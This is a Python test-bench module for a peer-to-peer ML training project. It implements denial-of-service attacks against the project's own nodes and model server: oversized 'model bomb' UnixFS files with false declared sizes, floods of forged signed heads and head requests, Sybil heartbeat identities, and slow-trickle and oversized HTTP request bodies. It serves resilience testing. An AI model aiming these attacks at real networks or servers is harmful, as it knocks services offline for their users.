"""Issue 27's "Bounds" attacks, done as a hostile peer or client would: a task whose initial model
is a bomb, floods of forged heads and of head requests, and slow or big request bodies against
``model serve``.

Like :mod:`hostile` (whose :class:`~hostile.HostilePeer` the pubsub and Bitswap attacks use), every
attack here is bounded in count and time and returns a small dict of what it sent, for the bench's
report. Used by bench/chaos.py and bench/head_flood.py; tests/bench_chaos runs them against real
node processes and a real server.
"""

from __future__ import annotations

import hashlib
import json
import os
import random
import statistics
from collections import Counter
from typing import Any

import trio

from hostile import MESH_TOPIC, HostilePeer, _caps, gossip_message
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.peer.id import ID
from p2ptrain.ipfs import CHUNK_SIZE, CID, DAG_PB, MAX_LINKS, cid_from_digest, cid_str, encode_file_leaf, encode_file_node
from p2ptrain.task import TASK_TEMPLATE, load_task, task_bytes
from p2ptrain.wire import HeadRequest, Heartbeat, TASKS_TOPIC, TaskAnnounce, TaskHead, encode

Block = tuple[CID, bytes]

# The model bomb of issue 27: a task's initial_model that declares 2 GiB and is one 256 KiB leaf
# linked at every position (a few blocks to fetch; a node that reads it unbounded holds gigabytes).
MODEL_BOMB_BYTES = 2 * 1024**3
# ... and one of distinct random leaves under a root that declares 1,000 bytes, so that only a
# fetch counting the bytes as they arrive stops it: 256 MiB (the issue downloaded 2 GiB of such).
MODEL_FLOOD_CHUNKS = 1024
# The head floods of issue 27: forged heads (signed by the attacker, naming the run's task, the
# most members a head may list: ~55 KB each) cut a run's steps/s by 69-77% at 131/s; head
# requests by 43-45% at 2,600/s.
HEAD_FLOOD_RATE = 131.0
HEAD_MEMBERS = 1024
HEAD_REQUEST_RATE = 2600.0


def _dag_pb(block: bytes) -> Block:
    return cid_from_digest(hashlib.sha256(block).digest(), DAG_PB, 0), block


def repeated_leaf_file(declared: int) -> list[Block]:
    """A well-formed UnixFS file of about ``declared`` bytes (whole subtrees of MAX_LINKS leaves,
    all sizes consistent, so any reader takes it for a file) whose every leaf is one random 256 KiB
    chunk; root first."""
    leaf = _dag_pb(encode_file_leaf(os.urandom(CHUNK_SIZE)))
    blocks = [leaf]
    child, size, tsize = leaf, CHUNK_SIZE, len(leaf[1])
    while size * MAX_LINKS <= declared:
        node = _dag_pb(encode_file_node([(bytes(child[0]), tsize)] * MAX_LINKS, [size] * MAX_LINKS))
        blocks.append(node)
        child, size, tsize = node, size * MAX_LINKS, tsize * MAX_LINKS + len(node[1])
    count = max(1, declared // size)
    blocks.append(_dag_pb(encode_file_node([(bytes(child[0]), tsize)] * count, [size] * count)))
    return blocks[::-1]


def distinct_leaves_file(chunks: int) -> list[Block]:
    """``chunks`` distinct random 256 KiB leaves under one node, under a root that declares its one
    child holds 1,000 bytes: the root's size passes any bound; root first. (A reader finds the lie;
    a fetch that trusts declared sizes, or counts nothing, downloads every leaf.)"""
    leaves = [_dag_pb(encode_file_leaf(os.urandom(CHUNK_SIZE))) for _ in range(chunks)]
    nodes, level = [], leaves
    while len(level) > 1:  # a balanced tree of MAX_LINKS links a node, as an importer lays it out
        level = [_dag_pb(encode_file_node([(bytes(c), len(b)) for c, b in level[i:i + MAX_LINKS]],
                                          [CHUNK_SIZE] * len(level[i:i + MAX_LINKS])))
                 for i in range(0, len(level), MAX_LINKS)]
        nodes += level
    root = _dag_pb(encode_file_node([(bytes(level[0][0]), 1000)], [1000]))
    return [root, *nodes[::-1], *leaves]


def model_task_text(name: str, manifest: str, initial_model: str) -> str:
    """The demo's digits task (a 64-64-10 MLP: ~17 KB of weights) naming ``initial_model``."""
    text = TASK_TEMPLATE.format(manifest=manifest, steps=100, checkpoint=10, density=0.01, peers=8)
    return text.replace('name = "demo-digits-mlp"', f'name = "{name}"\ninitial_model = "{initial_model}"')


async def model_bomb_tasks(peer: HostilePeer, manifest: str, *, declared: int = MODEL_BOMB_BYTES,
                           chunks: int = MODEL_FLOOD_CHUNKS) -> dict[str, Any]:
    """Serve two tasks on ``manifest`` (a data set the victims can fetch) whose initial models are
    :func:`repeated_leaf_file` and :func:`distinct_leaves_file`, and announce both, signed, on the
    tasks topic. Returns the task and model CIDs, what was served, and (``cids``) every block of
    both models."""
    bomb, flood = repeated_leaf_file(declared), distinct_leaves_file(chunks)
    peer.put_blocks(bomb)
    peer.put_blocks(flood)
    out: dict[str, Any] = {"declared_bytes": declared, "bomb_blocks": len(bomb),
                           "bomb_bytes": sum(len(b) for _, b in bomb), "flood_bytes": sum(len(b) for _, b in flood),
                           "cids": [cid for cid, _ in bomb + flood]}
    for name, blocks in (("model-bomb", bomb), ("model-flood", flood)):
        model = cid_str(blocks[0][0])
        task_cid = peer.store.add_bytes(task_bytes(load_task(model_task_text(name, manifest, model))))
        out[name] = {"task_cid": task_cid, "model_cid": model, "leaf": cid_str(blocks[-1][0])}
    await announce(peer, {out[name]["task_cid"]: name for name in ("model-bomb", "model-flood")})
    return out


async def announce(peer: HostilePeer, tasks: dict[str, str]) -> None:
    """Announce each task (CID -> name), signed by the peer, on the tasks topic."""
    for task_cid, name in tasks.items():
        await peer.publish(TASKS_TOPIC, peer.signed(TaskAnnounce(task_cid=task_cid, name=name)))


def forged_head(peer: HostilePeer, task_cid: str, members: int = HEAD_MEMBERS) -> TaskHead:
    """A head for ``task_cid`` far ahead of the run (v999), listing ``members`` made-up members,
    naming CIDs nobody holds: what a peer that is not the coordinator can sign."""
    fake = cid_str(cid_from_digest(hashlib.sha256(task_cid.encode()).digest(), DAG_PB, 0))
    ids = tuple(peer.peer_id.to_base58()[:-6] + f"{i:06d}" for i in range(members))
    return TaskHead(task_cid=task_cid, term=999, version=999, step=10**6, round=10**6, total_steps=10**6,
                    chain_cid=fake, model_cid=fake, optimizer_cid=fake, members=ids)


async def heartbeat_sybils(peer: HostilePeer, task_cid: str, identities: int, seconds: float) -> dict[str, Any]:
    """Issue 27's heartbeat-only Sybils: ``identities`` throwaway identities whose heartbeats (one a
    second each, for ``seconds``) advertise ``task_cid``; they never vote and never take part in a
    round (the addresses they name are a closed loopback port: a dial is refused at once)."""
    keys = [create_new_key_pair() for _ in range(identities)]
    ids = [ID.from_pubkey(k.public_key).to_base58() for k in keys]
    started, seq = trio.current_time(), 0
    while trio.current_time() - started < seconds:
        seq += 1
        batch = [gossip_message(k, MESH_TOPIC, encode(Heartbeat(addrs=(f"/ip4/127.0.0.1/tcp/9/p2p/{me}",), caps=_caps(),
                                                                tasks=(task_cid,)), k, seq), peer._next_gossip_seq())
                 for k, me in zip(keys, ids)]
        await peer.send_batch(batch)
        await trio.sleep(1.0)
    return {"identities": ids, "heartbeats": seq * identities}


def head_flood(peer: HostilePeer, task_cid: str, count: int, members: int = HEAD_MEMBERS) -> list[Any]:
    """``count`` forged heads of ``task_cid`` for the tasks topic, each signed anew (wire and
    gossipsub signatures): made before a flood starts, so the attacker's CPU does not set its pace.
    Send them with :func:`hostile.send_paced` (HEAD_FLOOD_RATE)."""
    head = forged_head(peer, task_cid, members)
    return [gossip_message(peer.key_pair, TASKS_TOPIC, peer.signed(head), peer._next_gossip_seq())
            for _ in range(count)]


def head_request_flood(peer: HostilePeer, task_cid: str, count: int) -> list[Any]:
    """``count`` head requests for ``task_cid``, signed, for the tasks topic (HEAD_REQUEST_RATE)."""
    request = HeadRequest(task_cid=task_cid)
    return [gossip_message(peer.key_pair, TASKS_TOPIC, peer.signed(request), peer._next_gossip_seq())
            for _ in range(count)]


# ---- model serve: slow and big request bodies --------------------------------------------------------

# The slow bodies of issue 27: 32 connections declaring 8 MiB each (all of the server's 256 MiB
# body budget, charged up front) and trickling a byte at a time.
TRICKLERS = 32
TRICKLE_DECLARED = 8 * 1024 * 1024
TRICKLE_EVERY_S = 0.2
# The big bodies: four clients posting 6.7 MB JSON bodies back to back (digits-shaped samples of long
# floats, 2,600 of them: over the 1,024 a request may hold, refused only once parsed).
BIG_CLIENTS = 4
BIG_SAMPLES = 2600


def predict_head(length: int) -> bytes:
    """The head of a ``POST /predict`` declaring ``length`` body bytes (one request a connection)."""
    return (b"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nConnection: close\r\n"
            b"Content-Length: " + str(length).encode() + b"\r\n\r\n")


def big_body(samples: int = BIG_SAMPLES, features: int = 64) -> bytes:
    """``samples`` samples of ``features`` floats written long (24 characters each)."""
    rng = random.Random(0)
    return json.dumps({"inputs": [[rng.random() * 1e-300 for _ in range(features)] for _ in range(samples)]}).encode()


async def _answer(stream: trio.SocketStream) -> bytes:
    """Everything the server sends until it closes the connection."""
    data = b""
    try:
        while chunk := await stream.receive_some(65536):
            data += chunk
    except trio.BrokenResourceError:
        pass
    return data


def status_of(answer: bytes) -> int:
    """The status code of an HTTP answer (0: none came)."""
    parts = answer.split(b" ", 2)
    return int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else 0


async def post(host: str, port: int, body: bytes) -> tuple[int, float]:
    """One ``POST /predict`` on a fresh connection: its status and its latency in seconds."""
    started = trio.current_time()
    async with await trio.open_tcp_stream(host, port) as stream:
        try:
            await stream.send_all(predict_head(len(body)) + body)
        except trio.BrokenResourceError:
            pass  # answered (413) and closed before the body was taken
        answer = await _answer(stream)
    return status_of(answer), trio.current_time() - started


async def trickle(host: str, port: int, declared: int, stop: trio.Event, every_s: float = TRICKLE_EVERY_S) -> int:
    """Declare a body of ``declared`` bytes and send a byte of it every ``every_s`` until ``stop`` or
    the server answers; the answer's status (0: none)."""
    async with await trio.open_tcp_stream(host, port) as stream:
        await stream.send_all(predict_head(declared) + b'{"inputs": [')
        got: list[bytes] = []
        async with trio.open_nursery() as nursery:
            async def read() -> None:
                got.append(await _answer(stream))
                nursery.cancel_scope.cancel()

            nursery.start_soon(read)
            while not stop.is_set():
                with trio.move_on_after(every_s):
                    await stop.wait()
                try:
                    await stream.send_all(b" ")
                except (trio.BrokenResourceError, trio.ClosedResourceError):
                    break
            nursery.cancel_scope.cancel()
    return status_of(got[0]) if got else 0


async def slow_and_big_bodies(host: str, port: int, seconds: float, honest: bytes,
                              tricklers: int = TRICKLERS, declared: int = TRICKLE_DECLARED,
                              big: tuple[bytes, ...] = ()) -> dict[str, Any]:
    """``tricklers`` slow bodies declaring ``declared`` bytes and clients posting each of ``big``
    back to back, for ``seconds``; meanwhile one honest client posts ``honest`` again and again.
    What each got (status -> count) and the honest latencies' p50."""
    stop = trio.Event()
    slow: Counter[int] = Counter()
    bulky: Counter[int] = Counter()
    fair: list[tuple[int, float]] = []
    async with trio.open_nursery() as nursery:
        async def one_trickler() -> None:
            slow[await trickle(host, port, declared, stop)] += 1

        async def one_big(body: bytes) -> None:
            while not stop.is_set():
                bulky[(await post(host, port, body))[0]] += 1

        for _ in range(tricklers):
            nursery.start_soon(one_trickler)
        for body in big:
            nursery.start_soon(one_big, body)
        with trio.move_on_after(seconds):
            await trio.sleep(min(1.0, seconds / 4))  # the attackers are in
            while True:
                fair.append(await post(host, port, honest))
        stop.set()
    latencies = sorted(t for _, t in fair)
    return {"tricklers": dict(slow), "big": dict(bulky), "honest": dict(Counter(s for s, _ in fair)),
            "honest_p50_s": round(statistics.median(latencies), 4) if latencies else None}


async def honest_p50(host: str, port: int, honest: bytes, count: int = 30) -> float:
    """The median latency of ``count`` honest requests, one after another."""
    return statistics.median([(await post(host, port, honest))[1] for _ in range(count)])
